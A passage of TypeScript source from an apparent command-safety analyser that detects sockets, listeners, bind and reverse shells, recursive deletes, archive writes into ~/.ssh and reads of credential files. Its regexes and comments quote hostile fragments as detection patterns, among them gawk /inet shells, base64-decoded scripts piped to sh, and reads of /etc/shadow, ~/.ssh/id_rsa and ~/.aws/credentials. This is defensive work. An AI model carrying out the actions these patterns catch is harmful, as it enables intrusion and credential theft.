      (/\bset(?:res|re|e)?[ug]id\s*[(\s]\s*0\b|\b(?:uid|euid|gid|egid)\s*=\s*0\b/.test(code) || /chmod\w*\s*\([^)]*?\b0o?[2-7][0-7]{3}\b/.test(code))
    )
      e.caps.push("priv");
    // Sockets opened by library call: the host and port are the call's string and number arguments
    // (`socket.create_connection(('h', 22))`, `net.connect(22, 'h')`, `TCPSocket.new("h", 22)`, `fsockopen("h", 22)`,
    // `HTTPConnection('h', 18789)`, `http.get({host: 'h', port: 18789})`, `sockaddr_in(22, inet_aton("h"))`).
    for (const m of code.matchAll(SOCKET_CALL)) {
      // ssh client libraries (paramiko's `SSHClient().connect(h)`, Net::SSH, asyncssh, node's ssh2) default to port 22
      const sshLib = /paramiko|SSHClient|Net::S(?:SH|FTP)|asyncssh|ssh2|fabric|pysftp|NodeSSH|node-ssh|SftpClient|ssh2-sftp-client/.test(code);
      if (m[1] === ".connect" && !/socket|\bnet\b|tls|Socket/.test(code) && !sshLib) continue;
      if (m[1] === "Connection" && !sshLib) continue;
      const argsText = ` ${m[2]}`;
      const hostM = /(["'`])([\w.:-]*[\w:][\w.:-]*)\1/.exec(argsText);
      if (!hostM) continue;
      let host = hostM[2];
      let port = Number(/(?:port\s*[:=]>?\s*|[(,\s])(\d{1,5})\b/i.exec(argsText)?.[1] ?? Number.NaN);
      const hp = /^(.*):(\d{1,5})$/.exec(host);
      if (hp && !host.includes("::")) {
        host = hp[1];
        port = Number(hp[2]);
      }
      if (!Number.isFinite(port)) port = /^HTTPS/i.test(m[1]) ? 443 : /HTTP/i.test(m[1]) ? 80 : sshLib ? 22 : -1;
      this.net(program, { url: `tcp://${host}:${port}`, host, port }, inh);
    }
    // Listening sockets opened by library call (`s.bind(('0.0.0.0', 4444)); s.listen()`, `net.createServer(…).listen(4444)`,
    // `TCPServer.new(4444)`, `IO::Socket::INET->new(LocalPort => 4444, Listen => 1)`): a listen op, public unless bound
    // to loopback; with a shell spawned by the same code it is a bind shell (revshell)
    if (e)
      for (const m of code.matchAll(
        /\.bind\(\s*\(\s*(["'])([^"']*)\1\s*,\s*(\d{1,5})\s*\)|\.listen\(\s*(\d{1,5})\s*(?:,\s*(["'])([^"']*)\5)?|TCPServer\.(?:new|open)\(\s*(?:(["'])([^"']*)\7\s*,\s*)?(\d{1,5})|LocalPort\s*=>\s*(\d{1,5})/g,
      )) {
        // (Python's and Perl's `listen(n)` is the backlog, not a port)
        if (m[4] !== undefined && interpFamily(program) !== "node") continue;
        const host = m[2] ?? m[6] ?? m[8] ?? "";
        const port = Number(m[3] ?? m[4] ?? m[9] ?? m[10]);
        this.listenOp(program, port, !(host && (LOOPBACK.test(host) || host === "localhost")), inh, host);
      }
    // gawk's special files `/inet/tcp/LPORT/HOST/RPORT` are sockets: a connection (or a listener when HOST is 0); a
    // command computed from what the socket sends (`s |& getline c; c |& getline o`) is a shell for the peer
    if (/awk$/.test(program))
      for (const m of code.matchAll(/(?:(\w+)\s*=\s*)?"\/inet[46]?\/(?:tcp|udp)\/(\d+)\/([^/"\s]+)\/(\d+)"/g)) {
        if (m[3] !== "0" && m[4] !== "0") this.net(program, { url: `tcp://${m[3]}:${m[4]}`, host: m[3].toLowerCase(), port: Number(m[4]) }, inh);
        else if (m[2] !== "0") this.listenOp(program, Number(m[2]), true, inh);
        const ran = [...code.matchAll(/\b([A-Za-z_]\w*)\s*\|&?\s*getline|\bsystem\(\s*([A-Za-z_]\w*)\s*\)/g)].some((x) => (x[1] ?? x[2]) !== m[1]);
        if (e && m[1] && ran) e.caps.push("revshell");
      }
    // awk: `print | "sh"`, `"cmd" | getline`; Perl/Ruby backticks and qx{}
    if (/awk$/.test(program)) {
      for (const m of code.matchAll(/\|&?\s*"([^"]+)"|"([^"]+)"\s*\|&?\s*getline/g)) run(m[1] ?? m[2]);
      // `print "cmd" | "sh"`: the printed text is the shell's script
      for (const m of code.matchAll(/printf?\s*\(?\s*"([^"]*)"\s*\)?\s*\|&?\s*"([^"]+)"/g))
        if (SHELL_SET.has(basename(m[2].split(/\s+/)[0]))) run(m[1]);
    }
    if (/^(perl|ruby|php|julia)/.test(program))
      for (const m of code.matchAll(/`([^`]+)`|(?:qx|%x)\s*(?:\{([^}]*)\}|\(([^)]*)\)|\[([^\]]*)\]|\/([^/]*)\/)/g))
        run(m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5]);
    // JavaScript shells by tagged template (`Bun.$\`rm -rf x\``, zx's `$\`cmd\``) and Deno's `new Deno.Command("sh", {args: […]})`
    if (interpFamily(program) === "node") {
      for (const m of code.matchAll(/(?:\bBun\.|[\s(;=]|^)\$`([^`]*)`/g))
        if (m[1].includes("${")) e?.caps.push("dynexec");
        else run(m[1]);
      for (const m of code.matchAll(/new\s+Deno\.Command\s*\(\s*(["'])([^"']+)\1\s*(?:,\s*\{[^}]*?\bargs\s*:\s*\[([^\]]*)\])?/g))
        run([m[2], ...[...(m[3] ?? "").matchAll(/(["'`])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2])].map(shellQuote).join(" "));
    }
    // Python's `os.spawnl*(mode, path, arg0, args…)` / `os.spawnv*(mode, path, [arg0, …])`: argv after the path
    for (const m of code.matchAll(/os\.spawn[lv]p?e?\s*\(\s*[\w.]+\s*,\s*(["'])[^"']*\1\s*,\s*\[?((?:\s*(["'])[^"']*\3\s*,?)+)/g))
      run([...m[2].matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => shellQuote(x[2])).join(" "));
    // Perl: a pipe opened to a program (`open(my $f, "|-", "sh")`, `open(F, "| sh")`) runs it, and what the code
    // prints into a shell is that shell's script
    if (/^perl/.test(program))
      for (const m of code.matchAll(/\bopen\s*\(\s*[^,]+,\s*(?:(["'])\|-\1\s*,\s*(["'])([^"']+)\2|(["'])\|\s*([^"']+)\4)/g)) {
        const cmd = (m[3] ?? m[5]).trim();
        run(cmd);
        if (SHELL_SET.has(basename(cmd.split(/\s+/)[0])))
          for (const p of code.matchAll(/\bprint\s+(?:\$\w+|\{[^}]*\}|[A-Z]+)\s+(["'])((?:\\.|(?!\1)[^\\])*)\1/g)) run(p[2].replace(/\\n/g, "\n"));
      }
    // Recursive deletes by library call: a delete op on the path (a computed path is unknown: outside).
    const rec =
      /(?:shutil\.rmtree|rmtree|fs\.rmSync|rmSync|fs\.rm|rmdirSync|FileUtils\.rm_rf|FileUtils\.rm_r|FileUtils\.remove_dir|rm_rf|rm_r|rimraf(?:\.sync)?|os\.removedirs|remove_tree|File::Path::rmtree|Path\(.*?\)\.rmtree|deleteRecursively|remove_dir_all|Deno\.removeSync|Deno\.remove|\)\.rm|promises\.rm)\s*\(\s*(?:(?:pathlib\.)?(?:Pure)?Path\(\s*|path\.(?:join|resolve)\(\s*|File\.join\(\s*)?(?:(["'`])((?:\\.|(?!\1)[^\\])*)\1)?/g;
    for (const m of code.matchAll(rec)) {
      const d = this.pathOp("delete", m[2] ?? "", m[2] === undefined, program, inh);
      d.mode = "recursive";
    }
    // an archive made by library call of a directory (`shutil.make_archive(base, 'zip', '/home/u/.ssh')`): read whole
    for (const m of code.matchAll(/make_archive\(\s*[^,]+,\s*(["'])\w+\1\s*,\s*(?:root_dir\s*=\s*)?(["'])([^"']+)\2/g))
      this.readTree(this.pathOp("read", m[3], false, program, inh), m[3]);
    // archives extracted by library call (`tarfile.open(f).extractall('/home/u')`, `shutil.unpack_archive(f, '~/.ssh')`,
    // `ZipFile(f).extractall(path=…)`): the directory is written whole
    for (const m of code.matchAll(
      /\.extractall\(\s*(?:path\s*=\s*)?(["'])([^"']+)\1|unpack_archive\(\s*(["'])[^"']*\3\s*,\s*(?:extract_dir\s*=\s*)?(["'])([^"']+)\4/g,
    )) {
      const dir = m[2] ?? m[5];
      this.writeTree(this.pathOp("write", dir, false, program, inh), dir);
    }
    // a delete call told to recurse (Julia's `rm(p, recursive=true)`, R's `unlink(p, recursive=TRUE)`), Lisp's
    // `(delete-directory "p" t)`, PowerShell's `Remove-Item -Recurse`
    for (const m of code.matchAll(
      /(?:\b(?:rm|unlink|remove|rmdir|delete|file\.remove)\s*\(\s*(["'])((?:\\.|(?!\1)[^\\])*)\1[^)]*?\brecursive\s*[=:]\s*(?:true|TRUE|T)\b|\(delete-directory\s+"([^"]+)"\s+(?:t|'t)\b)/g,
    ))
      this.pathOp("delete", m[2] ?? m[3], false, program, inh).mode = "recursive";
    // Paths in string literals: open('/root/.aws/credentials'), fs.readFileSync('~/.ssh/id_rsa'), Perl's
    // open(F, "</etc/shadow"), and paths built on the home directory (Path.home() / '.zshrc', homedir() + '/.x').
    // a file named relative to the working directory, given straight to a call that opens it (`readFileSync('.env')`,
    // `open('.env').read()`, `file_get_contents('.env')`): read, or written when opened for writing
    for (const m of code.matchAll(
      /\b(?:readFileSync|readFile|open|read_text|read_bytes|File\.read|IO\.read|file_get_contents|fopen|load_dotenv|dotenv_values)\s*\(\s*(["'])([\w.][\w./-]*)\1(\s*,\s*["'][wax])?/g,
    ))
      if (/[./]/.test(m[2])) this.pathOp(m[3] ? "write" : "read", m[2], false, program, inh);
    const literals: { path: string; at: number; end: number }[] = [];
    for (const m of code.matchAll(/(["'`])[<>+]*\s*((?:~|\/|\.\.?\/)[^"'`\s]*)\1/g))
      literals.push({ path: m[2], at: m.index ?? 0, end: (m.index ?? 0) + m[0].length });
    for (const m of code.matchAll(
      /(?:Path\.home\(\)|Path\(\s*["']~["']\s*\)|(?<![\w$])["']~["'](?=\s*(?:,|\.joinpath\(|\/))|homedir\(\)|expanduser\(\s*["']~["']\s*\)|Dir\.home|getenv\(\s*["']HOME["']\s*\)|environ\[\s*["']HOME["']\s*\]|ENV\[\s*["']HOME["']\s*\]|process\.env\.HOME)\s*(?:\+|\/|,|\.joinpath\(|\.join\(|\.(?=\s*["'`]))\s*(["'`])\/?([^"'`]+)\1/g,
    ))
      literals.push({ path: `~/${m[2]}`, at: m.index ?? 0, end: (m.index ?? 0) + m[0].length });
    const deletes = /\b(?:remove|unlink\w*|rmtree|rm_r?f?|rmSync|rmdir\w*|delete|shred)\b/.test(code);
    const reads = /\b(?:open|read\w*|File\.read|readlines|file_get_contents|slurp|cat)\b/.test(code);
    for (const { path: raw, at, end } of literals) {
      const before = code.slice(Math.max(0, at - 64), at);
      const after = code.slice(at, end + 24);
      // a template's placeholders (`f"/x/{name}"`, `` `/x/${n}` ``, `"/x/#{n}"`) stand for any name there
      const path = raw.replace(/[$#]?\{[^}]*\}/g, "*");
      // a directory the code lists (glob, walk, listdir, readdir, Dir.glob): what it does to the entries it does under it
      const enumerates =
        /(?:glob|walk|listdir|scandir|readdir\w*|iterdir|rglob|opendir|Dir\.\w+|Dir\s*\[)\s*[([]?\s*$/.test(before) ||
        /^\s*\)\s*\.\s*(?:rglob|glob|iterdir|walk)\s*\(/.test(code.slice(end));
      // a directory joined with a computed name (`'/home/u/.ssh/' + f`, `"$dir/" . $f`): any file under it
      const joined =
        (/\/$/.test(path) && /^\s*(?:\+|\.(?!\w)|,)\s*[\w$@]/.test(code.slice(end))) ||
        // a directory with a request's path or a file name appended (`'/home/u' + req.url`): any file under it
        /^\s*\+\s*[\w$.]*\b(?:url|path|pathname|name|file)\b/i.test(code.slice(end));
      if (enumerates || joined) {
        const op = deletes ? "delete" : reads || joined ? "read" : "access";
        const o = this.pathOp(op, path.replace(/\/\*+$/, "") || "/", false, program, inh);
        if (op === "delete") o.mode = "recursive";
        this.readTree(o, path.replace(/\/\*+$/, "") || "/");
        continue;
      }
      const sourceOf =
        /(?<![A-Za-z])(?:copy\w*|cp\w*|move|rename\w*|copyFile\w*|copytree|copy_file|mv)\s*\(\s*(?:[\w.]+(?:\([^()]*\))?\.)*(?:[\w.]+\(\s*)?$/i.test(
          before,
        );
      if (sourceOf) {
        // the first argument of a copy or a move is read (a tree for copytree / cpSync); a move also deletes it
        const o = this.pathOp("read", path, false, program, inh);
        if (/copytree|cpSync|cp_r|copy_tree/i.test(before)) this.readTree(o, path);
        if (/(?:move|rename|mv)\w*\s*\(\s*$/i.test(before)) this.pathOp("delete", path, false, program, inh).mode = "recursive";
        continue;
      }
      if (/[*?[]/.test(path)) {
        const op = deletes ? "delete" : "access";
        const o = this.pathOp(op, path, false, program, inh);
        this.globs.set(o, { pattern: resolvePattern(path, this.env), shown: path });
        continue;
      }
      // inside the arguments of the call (one level of nested calls allowed: `writeFileSync(require('os').homedir() + …`)
      const inCall = (names: string) => new RegExp(`(?:${names})\\w*\\s*\\((?:[^;()]|\\([^()]*\\))*(?:[\\w.]+\\(\\s*)?$`, "i").test(before);
      const op =
        inCall("remove|unlink|rmdir|delete|rm\\b") || /\b(?:unlink|rmtree)\s+(?:glob\s*\(?\s*)?$/.test(before)
          ? "delete"
          : inCall("write|append|put_contents|Bun\\.write|copy|move|rename|symlink|link|chmod|truncate|utime") ||
              /\btruncate\s+$/.test(before) ||
              /["'`][>+][^"'`]*["'`]\s*,\s*$/.test(before) ||
              /^["'`][>+]/.test(code.slice(at)) ||
              /["'`]\s*,\s*["'`][wax]/.test(after) ||
              /\.\s*(?:write_text|write_bytes|open\(\s*["'`][wax])/.test(after)
            ? "write"
            : "access";
      this.pathOp(op, path, false, program, inh);
    }
    // URLs in string literals are connections the code makes (urlopen, fetch, http.get, Net::HTTP)
    for (const m of code.matchAll(/(["'`])((?:https?|wss?|ftp|file):\/\/[^"'`\s]+)\1/gi)) {
      if (/^file:/i.test(m[2])) {
        this.pathOp("read", decodeURIComponent(m[2].replace(/^file:\/\/(?:localhost)?/i, "")), false, program, inh);
        continue;
      }
      const t = parseTarget(m[2]);
      if (t) this.net(program, t, inh);
    }
  }

  /** What xargs is fed: the words of its standard input when the line gives it, or the paths the upstream
   * `find`/`fd`/`ls`/`realpath`/`readlink` names (`tree`: every file under it is an item). */
  private xargsItems(c: SimpleCmd, stdin: string | undefined, lines = false): { value: string; tree: boolean; glob: boolean }[] | undefined {
    if (stdin !== undefined) {
      const ws = stdin
        .split(lines ? /[\n\0]+/ : /[\s\0]+/)
        .map((x) => x.trim())
        .filter(Boolean);
      return ws.length && ws.length <= 16 ? ws.map((value) => ({ value, tree: false, glob: false })) : undefined;
    }
    const up = c.pipeFrom[c.pipeFrom.length - 1];
    let w = up?.words;
    // input from a process substitution (`xargs -0 rm < <(find ~/x -print0)`): that command's words
    const ps = up ? undefined : c.redirs.find((r) => r.op === "<" && /^<\(.*\)$/s.test(r.target.sh));
    if (ps)
      try {
        const inner = parseShell(ps.target.sh.slice(2, -1), { vars: new Map() }).cmds;
        if (inner.length === 1 && !inner[0].pipeFrom.length) w = inner[0].words;
      } catch {
        /* unreadable: no items */
      }
    if (!w?.length || w.some((x) => x.dynamic)) return undefined;
    const prog = basename(w[0].text);
    const a = w.slice(1);
    const item = (x: Word, tree: boolean) => ({ value: x.glob ? x.pat : x.text, tree, glob: x.glob });
    if (prog === "find") {
      const roots = [];
      for (const x of a) {
        if (/^[-(!]/.test(x.text)) break;
        roots.push(item(x, true));
      }
      return roots.length ? roots : [{ value: ".", tree: true, glob: false }];
    }
    if (prog === "fd" || prog === "fdfind") {
      const p = a.filter((x) => !x.text.startsWith("-")).slice(1);
      return p.length ? p.map((x) => item(x, true)) : undefined;
    }
    if (prog === "ls" || prog === "realpath" || prog === "readlink" || prog === "echo" || prog === "printf") {
      const p = a.filter((x) => !x.text.startsWith("-") && (prog !== "printf" || x !== a[0]));
      return p.length ? p.map((x) => item(x, false)) : undefined;
    }
    return undefined;
  }

  /** The standard input a command is given on the line: a here-document, a here-string, or the output of
   * `echo`/`printf` piped into it (static words only). */
  private stdinOf(c: SimpleCmd): string | undefined {
    const v = this.stdinOf1(c);
    this.stdinSeen.set(c, v);
    return v;
  }

  private stdinOf1(c: SimpleCmd): string | undefined {
    for (const r of c.redirs) {
      if (r.op === "<<<") return r.target.text;
      // `bash < <(echo 'cmd')`: standard input is a process substitution that only computes text
      if (r.op === "<" && r.target.sh.startsWith("<(") && r.target.sh.endsWith(")")) {
        const out = pureScriptOf(r.target.sh.slice(2, -1), new Map());
        if (out !== undefined) return out;
      }
      if (r.op === "<<" || r.op === "<<-") return this.heredocs.shift() ?? "";
    }
    const from = c.pipeFrom[c.pipeFrom.length - 1];
    // `cat <<EOF | python3`: what cat was given passes through
    if (from && from.words.length === 1 && basename(from.words[0].text) === "cat" && this.stdinSeen.has(from)) return this.stdinSeen.get(from);
    // text computed by a pipeline of pure text commands (`tr a-z n-za-m <<< '…' | sh`, `echo … | base64 -d | sh`)
    if (from && !(from.words[0] && /^(?:echo|printf)$/.test(from.words[0].text) && from.pipeFrom.length === 0)) {
      const out = pureScript({ cmds: [from] });
      if (out !== undefined) return out;
    }
    const w = from?.words;
    if (w?.length && w[0].text === "printf" && !w.some((x) => x.dynamic) && from.pipeFrom.length === 0) {
      const out = pureOutput(from, undefined);
      if (out !== undefined) return out;
    }
    if (w?.length && (w[0].text === "echo" || w[0].text === "printf") && !w.some((x) => x.dynamic)) {
      const rest = w.slice(1).filter((x, i) => !(w[0].text === "echo" && i === 0 && /^-[neE]+$/.test(x.text)));
      const text = rest.map((x) => x.text).join(" ");
      return w[0].text === "printf" || w.some((x) => x.text === "-e") ? text.replace(/\\n/g, "\n").replace(/\\t/g, "\t") : text;
    }
    return undefined;
  }

  /** One line given to a program with a shell escape (an editor's `-c`, a pager's or client's input):
   * `!cmd`, `:!cmd`, `\! cmd`, `.shell cmd`, `system cmd`, `shell cmd` run `cmd`; `:sh`/`:shell` spawn a shell;
   * `:py3 …`/`python …`/`:lua …` run code. */
  private escape(line: string, program: string, e: OpContext, inh: Inherit) {
    const l = line.trim().replace(/^:+\s*/, "");
    // file-transfer clients: `put LOCAL` uploads a local file
    const put = /^(?:put|mput|reput|append|send)\s+(\S+)/.exec(l);
    if (put && /^(?:ftp|lftp|ncftp|tftp|sftp|psftp|smbclient)$/.test(program)) {
      this.pathOp("read", put[1], false, program, inh);
      e.caps.push("upload");
      return;
    }
    const m = /^(?:!|\\!|\.shell\s|\.system\s|system\s|shell\s|call\s+system\()\s*([\s\S]*)$/.exec(l);
    if (m) {
      const src = l.startsWith("call") ? m[1].replace(/^["']|["']\)\s*$/g, "") : m[1];
      e.caps.push("shell");
      if (src.trim()) {
        try {
          this.script(parseShell(src, { vars: inh.vars, depth: inh.depth + 1 }), { ...inh, depth: inh.depth + 1 });
        } catch {
          this.unknown.set(
            e,
            `${program} runs a command through its shell escape that cannot be read (\`${src.slice(0, 60)}\`), so it cannot be checked`,
          );
        }
      } else this.pathOp("access", "", true, program, inh);
      return;
    }
    if (/^(?:sh|shell|terminal|term)$/.test(l)) {
      e.caps.push("shell");
      return;
    }
    const code = /^(?:py3?|pyx?|python3?|lua|perl|ruby|rub)\s+([\s\S]+)$/.exec(l);
    if (code) {
      e.code = `${e.code}${code[1]}`.toLowerCase();
      this.code(code[1], program, inh);
    }
  }

  /** A directory written as a whole (an archive extracted into it, a tree copied or linked into it): outside the
   * workspace, also every file under it, so the rules on the files it may create meet them (`unzip -d ~/.ssh` may
   * write `~/.ssh/authorized_keys`, `tar -x -C ~` may write `~/.bashrc`). In the workspace it stays one write. */
  private writeTree(o: OpContext, raw: string) {
    if (!o.outside || o.dynamic) return o;
    // The protected and persistence locations are home's start-up files, its hidden directories (`~/.ssh`,
    // `~/.config`, `~/.local`, `~/.openclaw`) and /etc: a tree written into home or an ancestor, under a hidden
    // directory of home, or under /etc or /root may create them. One written elsewhere (`tar -x -C /tmp`,
    // `rsync -a dist/ ~/backup/`) creates none (a `.pth` there is on no Python path).
    const d = `${o.path.replace(/\/+$/, "")}/`;
    const home = `${this.env.home}/`;
    const hidden = d.startsWith(home) && /(?:^|\/)\./.test(d.slice(home.length));
    return home.startsWith(d) || hidden || d.startsWith("/etc/") || d.startsWith("/root/") ? this.readTree(o, raw) : o;
  }

  /** A port the command listens on or exposes (a listen op: port, bind address, public or not). */
  /** A directory read as a whole (`tar c`, `cp -r`, `grep -r`, `rg`, `find -exec`, a served or mounted directory):
   * also every file under it, as a pattern the engine compares with the protected paths (`~/.aws` → `~/.aws/credentials`). */
  private readTree(o: OpContext, raw: string) {
    if (this.globs.has(o) || o.dynamic || !raw) return o;
    const dir = raw.replace(/[*?[\]\\]/g, "\\$&").replace(/\/+$/, "") || "/";
    const base = resolvePattern(dir, this.env).replace(/\/$/, "");
    const shown = `${raw.replace(/\/+$/, "")}/…`;
    this.globs.set(o, { pattern: `${base}/**`, shown });
    // A tree holding the home directory (`grep -r x ~`, `tar c /home`, `find / | xargs cat`) holds the credential
    // files at fixed depths under home: one pattern per depth, anchored at home (cheap to compare), a bracket first
    // so that hidden names match too (`*` alone skips them, as the shell's does).
    if (!o.dynamic && `${this.env.home}/`.startsWith(`${o.path.replace(/\/+$/, "")}/`)) {
      const anchors = [this.env.home.replace(/[*?[\]\\]/g, "\\$&")];
      if (o.path === "/") anchors.push("/root");
      for (const a of anchors)
        for (const depth of [1, 2, 3]) {
          const c = { ...o };
          this.ops.push(c);
          this.globs.set(c, { pattern: `${a}${"/[!/]*".repeat(depth)}`, shown });
        }
    }
    return o;
  }

  private listenOp(program: string, port: number, pub: boolean, inh: Inherit, host = "") {
    const l = this.base("listen");
    Object.assign(l, { program, port, host, hostPublic: pub, url: `listen://${host || "*"}:${port}`, sudo: inh.sudo });
    this.ops.push(l);
  }

  private listen(program: string, prog: Prog, args: string[], pos: { value: string; idx: number }[], inh: Inherit) {
    if (!prog.listen && !LISTENERS.has(program)) return;
    const flags = flagsOf(args);
    // websocat's listening addresses (`ws-l:0.0.0.0:8765`, `tcp-l:127.0.0.1:9000`): public unless bound to loopback
    if (program === "websocat") {
      for (const a of args) {
        const m = /^(?:ws-l|ws-listen|l-ws|wss-l|wss-listen|tcp-l|tcp-listen|l-tcp|udp-l|udp-listen):(?:\[?([^\]]*?)\]?:)?(\d+)$/i.exec(a);
        if (m) this.listenOp(program, Number(m[2]), !(m[1] && LOOPBACK.test(m[1])), inh, m[1] ?? "");
      }
      return;
    }
    // ssh forwards: -L/-D listen here (loopback unless bound elsewhere or -g); -R exposes a local port on the remote side
    if (program === "ssh" || program === "autossh") {
      // -o RemoteForward='8080 localhost:18789' is -R 8080:localhost:18789 (LocalForward / DynamicForward likewise)
      const fwd: [string, string][] = optPairs(args, ["-o"]).flatMap(([, o]) => {
        const m = /^(RemoteForward|LocalForward|DynamicForward)\s*[= ]\s*(\S+)(?:\s+(\S+))?$/i.exec(o.trim());
        return m
          ? [
              [{ remoteforward: "-R", localforward: "-L", dynamicforward: "-D" }[m[1].toLowerCase()] ?? "-L", m[3] ? `${m[2]}:${m[3]}` : m[2]] as [
                string,
                string,
              ],
            ]
          : [];
      });
      for (const [opt, v] of [...optPairs(args, ["-L", "-D", "-R"]), ...fwd]) {
        const parts = splitHostPort(v);
        if (opt === "-R") {
          const local = parts.length >= 3 ? Number(parts[parts.length - 1]) : -1;
          this.listenOp(program, Number.isFinite(local) ? local : -1, true, inh, parts.length >= 3 ? parts[parts.length - 2] : "");
        } else {
          const bind = parts.length === 4 || (opt === "-D" && parts.length === 2) ? parts[0] : "";
          const port = Number(parts[bind ? 1 : 0]);
          const pub = flags.includes("g") || (!!bind && !LOOPBACK.test(bind));
          this.listenOp(program, Number.isFinite(port) ? port : -1, pub, inh, bind);
          // a public forward to a local port exposes that port too (`ssh -g -L 18790:localhost:18789 …`), as socat's relay does
          if (pub && opt === "-L" && parts.length >= 3 && isPrivateHost(parts[parts.length - 2]))
            this.listenOp(program, Number(parts[parts.length - 1]) || -1, true, inh, parts[parts.length - 2]);
        }
      }
      return;
    }
    if (program === "socat") {
      const listens = args.filter((a) => /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|sctp)[46]?-listen:/i.test(a));
      for (const a of listens) {
        const port = Number(/listen:(\d+)/i.exec(a)?.[1] ?? -1);
        const bind = /[,:]bind=([^,]+)/i.exec(a)?.[1] ?? "";
        const pub = !/range=127\.|range=localhost/i.test(a) && !(bind && LOOPBACK.test(bind));
        this.listenOp(program, port, pub, inh, bind);
        // a public listener relaying to a local port exposes that port too (`TCP-LISTEN:80,fork TCP:127.0.0.1:18789`)
        if (pub)
          for (const b of args) {
            const t = /^(?:tcp|tcp4|tcp6|tcp-connect):([^:,]+):(\d+)/i.exec(b);
            if (t && isPrivateHost(t[1])) this.listenOp(program, Number(t[2]), true, inh, t[1]);
          }
      }
      return;
    }
    if (program === "chisel") {
      // chisel client SERVER R:[bind:]port:host:hostport: the remote side exposes host:hostport
      for (const p of pos) {
        const parts = p.value.startsWith("R:") ? splitHostPort(p.value.slice(2)) : [];
        if (parts.length >= 2) this.listenOp(program, Number(parts[parts.length - 1]) || -1, true, inh, parts[parts.length - 2]);
      }
      if (!pos.some((p) => p.value.startsWith("R:"))) this.listenOp(program, -1, true, inh);
      return;
    }
    if (program === "httpd" && args.some((a) => a === "-p" || a === "-h")) {
      // busybox httpd -p PORT -h DIR: serves DIR to the network
      const [h, port] = portOf(optValues(args, ["-p"])[0] ?? "80", 80);
      const pub = !(h && LOOPBACK.test(h));
      this.listenOp(program, port, pub, inh, h);
      if (pub) this.serve(optValues(args, ["-h"])[0] ?? ".", program, inh);
      return;
    }
    const spec = prog.listen;
    if (!spec) return;
    if (spec.when && !spec.when.some((t) => triggerMatches(t, args, flags))) return;
    if (interpFamily(program) === "python" && !args.includes("-m")) return;
    let port = spec.def ?? -1;
    let host = "";
    const given = [...optValues(args, spec.port ?? [])];
    if (program === "docker" || program === "podman" || program === "nerdctl") {
      // -p [ip:]hostPort:containerPort: the host port is exposed (on every address unless an ip is given)
      for (const v of given) {
        const parts = v.split(":");
        const hp = parts.length >= 3 ? parts[1] : parts.length === 2 ? parts[0] : parts[0];
        const ip = parts.length >= 3 ? parts[0] : "";
        this.listenOp(program, Number(hp.split("-")[0]) || -1, !(ip && LOOPBACK.test(ip)), inh, ip);
      }
      if (args.includes("-P") || args.includes("--publish-all")) this.listenOp(program, -1, true, inh);
      return;
    }
    if (given.length) [host, port] = portOf(given[0], port);
    else if (spec.posPort) {
      for (const p of pos) {
        const [h, n] = portOf(p.value, -2);
        if (n !== -2) {
          [host, port] = [h, n];
          break;
        }
      }
    }
    const bindOpt = optValues(args, spec.bind ?? [])[0];
    const bind = bindOpt ?? host;
    const pub = spec.tunnel ? true : bind ? !LOOPBACK.test(bind) : !spec.local;
    if (program === "kubectl" || program === "oc") {
      const kpub = bindOpt ? bindOpt.split(",").some((a) => !LOOPBACK.test(a)) : false;
      // port-forward TARGET [LOCAL:]REMOTE…: the local port
      const pf = pos.slice(pos.findIndex((p) => p.value === "port-forward") + 2);
      for (const p of pf) this.listenOp(program, Number(p.value.split(":")[0]) || -1, kpub, inh, bindOpt ?? "");
      return;
    }
    // nc -l [host] port, nc -l -s 127.0.0.1 -p port
    const ncBind = /^(?:nc|ncat|netcat|nc\.\w+|pwncat|socket)$/.test(program)
      ? (optValues(args, ["-s", "--source"])[0] ?? pos.find((p) => !/^\d+$/.test(p.value))?.value)
      : undefined;
    const isPub = ncBind ? !LOOPBACK.test(ncBind) : pub;
    this.listenOp(program, port, isPub, inh, ncBind ?? bind);
    // the directory a file server serves (the working directory unless it is given)
    if (isPub && !ncBind) {
      const family = interpFamily(program);
      const dir =
        family === "python"
          ? optValues(args, ["-d", "--directory"])[0]
          : family === "php"
            ? optValues(args, ["-t", "--docroot"])[0]
            : family === "ruby"
              ? pos.find((p) => p.value !== "httpd" && !/^\d+$/.test(p.value))?.value
              : program === "caddy" || program === "twistd"
                ? (optValues(args, ["--root", "-r", "--path"])[0] ?? ".")
                : prog.can.includes("read") && !prog.listen?.tunnel
                  ? (optValues(args, ["-d", "--dir", "--directory", "--root"])[0] ?? pos.find((p) => !/^\d+$/.test(p.value))?.value)
                  : undefined;
      if (dir || family === "python" || family === "php" || family === "ruby") this.serve(dir ?? ".", program, inh);
    }
  }

  /** A directory served to the network: a read of all of it. */
  private serve(dir: string, program: string, inh: Inherit) {
    const o = this.pathOp("read", dir, false, program, inh);
    o.mode = "serve";
    this.readTree(o, dir);
  }

  private files(program: string, args: string[], dyn: boolean[], pos: { value: string; idx: number }[], e: OpContext, inh: Inherit) {
    const add = (op: "read" | "write" | "delete" | "access", p: { value: string; idx: number }) => {
      const o = this.pathOp(op, p.value, dyn[p.idx] || inh.unknownArgs, program, inh);
      if (!o.inWorkspace) e.outside = true;
      return o;
    };
    const prog = progOf(program);
    if (inh.unknownArgs) e.outside = true; // xargs: the targets come from stdin
    // Options whose value is a file the program reads or writes (`sort -o`, `openssl enc -in`, `strace -o`).
    for (const v of optValues(args, prog.in ?? [])) this.pathOp("read", v, false, program, inh);
    for (const v of optValues(args, prog.out ?? [])) if (v !== "-" && v !== "/dev/null") this.pathOp("write", v, false, program, inh);
    if (program === "dd") {
      for (const a of args) {
        const m = /^(if|of)=(.*)$/.exec(a);
        if (m) this.pathOp(m[1] === "if" ? "read" : "write", m[2], false, program, inh);
      }
      return;
    }
    // commands that print a credential they keep are reads of the file it is kept in: `kubectl config view --raw`
    // (the kubeconfig's tokens and keys), `gh auth token` (gh's hosts.yml), `git credential fill` (the git credential store)
    if ((program === "kubectl" || program === "oc") && pos[0]?.value === "config" && pos[1]?.value === "view" && args.includes("--raw"))
      this.pathOp("read", optValues(args, ["--kubeconfig"])[0] ?? "~/.kube/config", false, program, inh);
    if (program === "gh" && pos[0]?.value === "auth" && pos[1]?.value === "token") this.pathOp("read", "~/.config/gh/hosts.yml", false, program, inh);
    if (program === "git" && pos[0]?.value === "credential" && /^(?:fill|get)$/.test(pos[1]?.value ?? ""))
      this.pathOp("read", "~/.git-credentials", false, program, inh);
